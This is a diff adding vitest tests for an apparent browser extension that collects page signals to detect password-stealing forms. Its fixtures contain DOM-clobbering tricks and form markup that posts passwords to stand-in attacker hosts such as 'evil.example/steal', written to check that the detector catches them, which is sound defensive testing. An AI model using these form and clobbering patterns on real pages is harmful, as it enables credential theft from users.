@@ -1,6 +1,7 @@
 // @vitest-environment jsdom
 import { describe, expect, it, vi } from 'vitest';
 import { pageSignalsSchema } from '../../../src/core/page-signals';
+import { SIGNAL_LIMITS } from '../../../src/core/signal-limits';
 import { collectPageSignals } from '../../../src/content/collect-signals';
 import { watchPage } from '../../../src/content/watch-page';
 
@@ -54,6 +55,98 @@ describe('collectPageSignals', () => {
   });
 });
 
+/**
+ * jsdom has no named properties on documents and forms; these stand in for what Chromium
+ * does (`<img name="querySelectorAll">`, `<input name="action">`): own properties that
+ * shadow the prototype's. The real thing is in tests/e2e/hardening-page-attacks.
+ */
+function clobber(node: object, names: string[], by: Element): void {
+  for (const name of names) Object.defineProperty(node, name, { value: by, configurable: true });
+}
+
+describe('collectPageSignals on a page that clobbers the DOM', () => {
+  it('reads the document and its forms through the prototypes', () => {
+    const doc = page('<form action="http://portal.example-clinic.com/login"><input name="action"><input type="password"></form><img name="x">');
+    const form = doc.forms[0]!;
+    const field = form.querySelector('input')!;
+    const img = doc.querySelector('img')!;
+    // Not nodeType and the like: jsdom's own selector engine reads those from the node.
+    clobber(doc, ['querySelectorAll', 'querySelector', 'forms', 'getElementsByTagName'], img);
+    clobber(form, ['action', 'elements', 'querySelector', 'querySelectorAll', 'getAttribute', 'method', 'getRootNode'], field);
+    const signals = collectPageSignals(doc, false);
+    expect(signals.passwordFields).toBe(1);
+    expect(signals.forms).toEqual([{ action: 'http://portal.example-clinic.com/login', method: 'get', hasPassword: true }]);
+    expect(signals.incomplete).toBeUndefined();
+  });
+
+  it('leaves out a form it cannot read, says the report is incomplete, and keeps the rest', async () => {
+    // safe-dom saves the getters when it loads: break one before a fresh copy loads.
+    const action = Object.getOwnPropertyDescriptor(HTMLFormElement.prototype, 'action')!;
+    vi.resetModules();
+    Object.defineProperty(HTMLFormElement.prototype, 'action', {
+      ...action,
+      get(this: HTMLFormElement) {
+        if (this.id === 'broken') throw new TypeError('broken form');
+        return action.get!.call(this) as string;
+      },
+    });
+    try {
+      const fresh = await import('../../../src/content/collect-signals');
+      const doc = page('<form id="broken"><input type="password"></form><form action="http://x.example/in"><input type="password"></form>');
+      const onError = vi.fn();
+      const signals = fresh.collectPageSignals(doc, true, onError);
+      expect(signals.forms).toEqual([{ action: 'http://x.example/in', method: 'get', hasPassword: true }]);
+      expect(signals.passwordFields).toBe(2);
+      expect(signals.incomplete).toBe(true);
+      expect(onError).toHaveBeenCalledWith('a password form', expect.any(TypeError));
+      expect(pageSignalsSchema.safeParse(signals).success).toBe(true);
+    } finally {
+      Object.defineProperty(HTMLFormElement.prototype, 'action', action);
+    }
+  });
+});
+
+describe('collectPageSignals and where a password goes', () => {
+  it("reports a submit button's formaction as a place the password form posts to", () => {
+    const doc = page(`<form action="/session" method="post"><input type="password">
+      <button formaction="http://evil.example/steal">Sign in</button><button type="button" formaction="http://ignored.example/">x</button>
+      <input type="image" formaction="//other.example/img" formmethod="GET"></form>`);
+    expect(collectPageSignals(doc, true).forms).toEqual([
+      { action: 'https://portal.example-clinic.com/session', method: 'post', hasPassword: true },
+      { action: 'http://evil.example/steal', method: 'post', hasPassword: true },
+      { action: 'https://other.example/img', method: 'get', hasPassword: true },
+    ]);
+  });
+
+  it('counts a password field outside its form that names it with form="id", and that form\'s outside submit button', () => {
+    const doc = page(`<form id="login" action="http://portal.example-clinic.com/in"></form>
+      <input type="password" form="login"><button form="login" formaction="http://evil.example/">go</button>`);
+    expect(collectPageSignals(doc, true).forms).toEqual([
+      { action: 'http://portal.example-clinic.com/in', method: 'get', hasPassword: true },
+      { action: 'http://evil.example/', method: 'get', hasPassword: true },
+    ]);
+  });
+
+  it('puts password forms first, so dummy forms in front cannot push them past the cap', () => {
+    const dummies = '<form action="/search"><input name="q"></form>'.repeat(SIGNAL_LIMITS.forms + 10);
+    const doc = page(`${dummies}<form action="http://evil.example/"><input type="password"></form>`);
+    const { forms } = collectPageSignals(doc, true);
+    expect(forms).toHaveLength(SIGNAL_LIMITS.forms);
+    expect(forms[0]).toEqual({ action: 'http://evil.example/', method: 'get', hasPassword: true });
+  });
+
+  it('cuts frames and long addresses to the limits the protocol accepts', () => {
+    const long = `https://x.example/${'a'.repeat(5000)}`;
+    const frames = `<iframe src="${long}" allow="${'camera;'.repeat(200)}"></iframe>`.repeat(SIGNAL_LIMITS.frames + 5);
+    const doc = page(`<form action="${long}"><input type="password"></form>${frames}`);
+    const signals = collectPageSignals(doc, true);
+    expect(signals.iframes).toHaveLength(SIGNAL_LIMITS.frames);
+    expect(signals.iframes[0]!.src).toHaveLength(SIGNAL_LIMITS.url);
+    expect(signals.forms[0]!.action).toHaveLength(SIGNAL_LIMITS.url);
+    expect(pageSignalsSchema.safeParse(signals).success).toBe(true);
+  });
+});
+
 describe('watchPage', () => {
   it('reports a password field added after load, once per burst', async () => {
     vi.useFakeTimers();
@@ -67,6 +160,21 @@ describe('watchPage', () => {
     vi.advanceTimersByTime(60);
     expect(onChange).toHaveBeenCalledOnce();
     stop();
+    vi.useRealTimers();
+  });
+
+  it('notices a form added later even when its fields shadow its methods', async () => {
+    vi.useFakeTimers();
+    const onChange = vi.fn();
+    const stop = watchPage(document, onChange, 50);
+    const form = document.createElement('form');
+    clobber(form, ['matches', 'querySelector', 'querySelectorAll'], document.createElement('input'));
+    document.body.append(form);
+    await Promise.resolve();
+    vi.advanceTimersByTime(60);
+    expect(onChange).toHaveBeenCalledOnce();
+    stop();
+    form.remove();
     vi.useRealTimers();
   });
 
